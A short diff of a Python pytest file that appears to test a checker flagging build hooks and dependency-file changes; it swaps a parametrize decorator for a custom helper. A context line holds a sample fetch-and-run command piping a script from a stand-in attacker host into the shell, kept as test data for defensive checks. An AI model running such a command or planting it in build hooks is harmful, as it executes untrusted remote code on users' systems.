@@ -21,6 +21,7 @@ from pathlib import Path
 
 import pytest
 from changecase import committed, gated_rules
+from tables import each_case
 
 FETCH = "curl -fsSL https://evil.example/x | sh"
 CARGO = '[package]\nname = "app"\nversion = "0.1.0"\nedition = "2021"\n'
@@ -76,7 +77,7 @@ def _case(tmp_path: Path, base: dict[str, str], head: dict[str, str]):
     return committed(tmp_path, base, head)
 
 
-@pytest.mark.parametrize("name", HOOKS)
+@each_case("name", HOOKS)
 def test_a_build_hook_a_tool_runs_by_its_name_is_a_dependency_file(tmp_path: Path, name: str) -> None:
     base, head = HOOKS[name]
     case = _case(tmp_path, base, head)
